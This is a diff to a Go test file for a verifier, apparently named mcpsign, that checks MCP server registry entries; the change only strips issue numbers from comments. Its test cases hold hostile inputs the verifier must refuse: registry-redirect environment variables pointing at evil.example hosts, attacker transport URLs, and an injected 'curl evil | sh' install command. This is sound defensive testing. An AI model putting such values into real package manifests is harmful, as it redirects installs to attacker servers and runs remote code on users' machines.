@@ -45,7 +45,7 @@ func TestEntryMembersBoundOrRefused(t *testing.T) {
 		{"a secret the user gives", env(`{"name":"ACME_TOKEN","description":"token","isSecret":true,"isRequired":true}`), "", false},
 		{"a user's path, positional", pkg(`,"packageArguments":[{"type":"positional","valueHint":"dir","description":"d"}]`), "", false},
 		{"runtimeHint npx", pkg(`,"runtimeHint":"npx"`), "", false},
-		// Issue 29 item 2: the environment steers the installer or the runtime.
+		// the environment steers the installer or the runtime.
 		{"npm_config_registry", env(`{"name":"npm_config_registry","value":"https://npm.evil.example"}`), "/packages/0/environmentVariables/0/value", false},
 		{"PIP_INDEX_URL default", env(`{"name":"PIP_INDEX_URL","default":"https://pypi.evil.example/simple"}`), "/packages/0/environmentVariables/0/default", false},
 		{"UV_INDEX_URL asked of the user", env(`{"name":"UV_INDEX_URL","description":"set it to https://uv.evil.example"}`), "/packages/0/environmentVariables/0/name", false},
@@ -59,17 +59,17 @@ func TestEntryMembersBoundOrRefused(t *testing.T) {
 		{"a named flag", pkg(`,"packageArguments":[{"type":"named","name":"--allow-all-paths"}]`), "/packages/0/packageArguments/0", false},
 		{"runtimeHint node", pkg(`,"runtimeHint":"node"`), "/packages/0/runtimeHint", false},
 		{"runtimeHint docker for npm", pkg(`,"runtimeHint":"docker"`), "/packages/0/runtimeHint", false},
-		// Issue 29 item 3: a package transport that names where a host connects.
+		// a package transport that names where a host connects.
 		{"streamable-http transport", `,"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"streamable-http","url":"https://evil.example/mcp"}}]`, "/packages/0/transport", false},
 		{"sse transport with headers", `,"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"sse","url":"https://evil.example/sse","headers":[{"name":"X","value":"y"}]}}]`, "/packages/0/transport", false},
 		{"stdio with a url", `,"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"stdio","url":"https://evil.example/mcp"}}]`, "/packages/0/transport/url", false},
 		{"a remote", pkg("") + `,"remotes":[{"type":"streamable-http","url":"https://evil.example/mcp"}]`, "/remotes", false},
 		{"a member the schema does not define", pkg(`,"installCommand":"curl evil | sh"`), "/packages/0/installCommand", false},
 		{"a top-level member the schema does not define", pkg("") + `,"launch":{"command":"sh"}`, "/launch", false},
-		// Issue 29 item 6: a repeated member where mcpsign did not read.
+		// a repeated member where mcpsign did not read.
 		{"transport type twice", `,"packages":[{"registryType":"npm","identifier":"@acme/notes","version":"1.0.0","transport":{"type":"stdio","type":"streamable-http","url":"https://evil.example/mcp"}}]`, "/packages/0/transport/type", true},
 		{"a repeated member in icons", pkg("") + `,"icons":[{"src":"https://a.example/i.png","src":"https://b.example/i.png"}]`, "/icons/0/src", true},
-		// Issue 29 item 8: invalid UTF-8 and lone surrogates anywhere.
+		// invalid UTF-8 and lone surrogates anywhere.
 		{"invalid UTF-8 in description", pkg("") + ",\"title\":\"a\xff\"", "/title", true},
 		{"a lone surrogate", pkg("") + `,"websiteUrl":"https://a.example/\ud800"`, "/websiteUrl", true},
 	} {
@@ -189,7 +189,7 @@ func collect(t *testing.T, v *Verifier, ctx context.Context, src string, o Sourc
 
 func nested(n int) string { return strings.Repeat(`[`, n) + strings.Repeat(`]`, n) }
 
-// TestOneBadEntryNeverStopsTheRun (issue 29 item 4): an entry nested too
+// TestOneBadEntryNeverStopsTheRun: an entry nested too
 // deep, on a registry's page, refuses that entry only; the page's other
 // entries and the pages after it are verified. On main the page, and
 // every page after it, was refused: exit 2.
@@ -242,7 +242,7 @@ func TestOversizedEntryInADump(t *testing.T) {
 	}
 }
 
-// TestInterruptedRunChangesNothing (issue 29 item 5, issue 33 item 10): a
+// TestInterruptedRunChangesNothing: a
 // run stopped while bundles are fetched, or while the listing waits for a
 // page, returns ErrInterrupted, keeps the old --verified-out, and counts
 // the entries it did not verify as interrupted, not as other shards nor
@@ -329,7 +329,7 @@ func TestInterruptedRunChangesNothing(t *testing.T) {
 	}
 }
 
-// TestRegistryStatus (issue 29 item 7): the registry's status is carried
+// TestRegistryStatus: the registry's status is carried
 // into each line; a deleted entry (a takedown) is refused before anything
 // is fetched; a deprecated one goes on; a status mcpsign does not know
 // fails closed. On main a deleted entry was verified as a live one.
@@ -369,7 +369,7 @@ func TestRegistryStatus(t *testing.T) {
 	}
 }
 
-// TestDuplicatesBothRefused (issue 29 item 9): the same name and version
+// TestDuplicatesBothRefused: the same name and version
 // listed twice, with different content: both refused, each line naming
 // the other's position. On main both went on (and both were dumped when
 // they verified).
@@ -439,7 +439,7 @@ func TestDumpWithdrawsDuplicates(t *testing.T) {
 	}
 }
 
-// TestLoopbackSourceHost (issue 29 item 11): a registry on loopback makes
+// TestLoopbackSourceHost: a registry on loopback makes
 // its own host and port reachable for its bundles, and no other loopback
 // service. On main every loopback address and port was.
 func TestLoopbackSourceHost(t *testing.T) {
@@ -483,7 +483,7 @@ func TestLoopbackSourceHost(t *testing.T) {
 	}
 }
 
-// TestListingBudget (issue 29 item 12): a cursor that never repeats is
+// TestListingBudget: a cursor that never repeats is
 // bounded by the whole listing's bytes and time, not only by 100,000
 // pages.
 func TestListingBudget(t *testing.T) {
